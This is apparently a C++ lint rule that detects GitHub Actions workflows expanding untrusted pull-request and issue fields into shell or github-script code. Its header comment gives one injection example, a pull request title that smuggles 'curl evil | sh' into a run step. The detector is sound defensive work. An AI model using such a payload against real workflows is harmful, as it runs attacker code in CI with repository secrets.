// Rule `script-injection`: untrusted event values expanded into `run:` scripts.
//
// `${{ }}` in a `run:` script (or the `script` input of actions/github-script)
// is replaced by its text before the shell (or JavaScript) sees it, so a pull
// request title such as `a"; curl evil | sh; "` becomes code. Values that an
// outside contributor controls (titles, bodies, branch names, commit messages,
// author names and e-mails) must go through an environment variable instead.
#include "passes/lint_ir.h"
#include "passes/lint_rule.h"

#include "ir/action.h"

#include <string>

namespace passes {

namespace {

// Paths under `github.` whose values anyone who opens an issue or a pull
// request controls; `*` stands for any array element. Compared in lower case.
const char *const kUntrusted[] = {
    "head_ref",
    "event.issue.title",
    "event.issue.body",
    "event.pull_request.title",
    "event.pull_request.body",
    "event.comment.body",
    "event.review.body",
    "event.review_comment.body",
    "event.pages.*.page_name",
    "event.commits.*.message",
    "event.commits.*.author.email",
    "event.commits.*.author.name",
    "event.head_commit.message",
    "event.head_commit.author.email",
    "event.head_commit.author.name",
    "event.pull_request.head.ref",
    "event.pull_request.head.label",
    "event.pull_request.head.repo.default_branch",
    "event.workflow_run.head_branch",
    "event.workflow_run.head_commit.message",
    "event.workflow_run.head_commit.author.email",
    "event.workflow_run.head_commit.author.name",
    "event.workflow_run.pull_requests.*.head.ref",
    "event.discussion.title",
    "event.discussion.body",
};

// The dotted path of a property chain rooted at `github` ("github.event.issue.title"),
// or "" when `e` is not such a chain.
std::string chainPath(const ir::Expr &e, const ir::Expr **root) {
  switch (e.op) {
  case ir::ExprOp::Context:
    *root = &e;
    return llvm::StringRef(e.text).lower();
  case ir::ExprOp::Property: {
    std::string base = chainPath(*e.args[0], root);
    return base.empty() ? "" : base + "." + llvm::StringRef(e.text).lower();
  }
  case ir::ExprOp::Wildcard: {
    std::string base = chainPath(*e.args[0], root);
    return base.empty() ? "" : base + ".*";
  }
  case ir::ExprOp::Index: {
    std::string base = chainPath(*e.args[0], root);
    if (base.empty())
      return "";
    const ir::Expr &i = *e.args[1];
    if (i.op == ir::ExprOp::String)
      return base + "." + llvm::StringRef(i.text).lower();
    return base + ".*";
  }
  default:
    return "";
  }
}

bool untrusted(llvm::StringRef path) {
  if (!path.consume_front("github."))
    return false;
  for (const char *u : kUntrusted)
    if (path == u)
      return true;
  return false;
}

class ScriptInjectionRule final : public LintRule {
public:
  llvm::StringRef name() const override { return "script-injection"; }

  void visitWorkflowPost(const YamlWorkflowView &, LintContext &ctx) override {
    if (ctx.workflow)
      for (const ir::Job &j : ctx.workflow->jobs)
        forEachStep(j.steps, [&](const ir::Step &s) { checkStep(s, ctx); });
    if (ctx.action)
      forEachStep(ctx.action->runs.steps, [&](const ir::Step &s) { checkStep(s, ctx); });
  }

private:
  static void checkStep(const ir::Step &s, LintContext &ctx) {
    if (s.kind == ir::StepKind::Run) {
      check(s.run, "inline scripts", ctx);
    } else if (s.kind == ir::StepKind::Uses && s.uses &&
               llvm::StringRef(s.uses->value).lower().rfind("actions/github-script@", 0) == 0) {
      if (const ir::NamedTemplate *script = ir::findNamed(s.with, "script"))
        check(script->value, "scripts of actions/github-script", ctx);
    }
  }

  static void check(const ir::Template &t, const char *where, LintContext &ctx) {
    for (const ir::TemplatePart &p : t.parts) {
      if (!p.isExpr || !p.ast)
        continue;
      // Report the longest chains only: `github.event.issue.title` once, not
      // again for its prefix nodes.
      std::vector<const ir::Expr *> reported;
      ir::walkExpr(*p.ast, [&](const ir::Expr &n) {
        if (n.op != ir::ExprOp::Property && n.op != ir::ExprOp::Index &&
            n.op != ir::ExprOp::Context)
          return;
        const ir::Expr *root = nullptr;
        std::string path = chainPath(n, &root);
        if (path.empty() || !untrusted(path))
          return;
        for (const ir::Expr *r : reported)
          if (r == root)
            return;
        reported.push_back(root);
        ir::SourceRange range =
            ctx.facts().templateRange(t, p.offset + root->pos, root->len);
        ctx.report(ir::DiagKind::LintScriptInjection, range, path, where).valueRange = t.range;
      });
    }
  }
};

} // namespace

std::unique_ptr<LintRule> createScriptInjectionRule() {
  return std::make_unique<ScriptInjectionRule>();
}

} // namespace passes
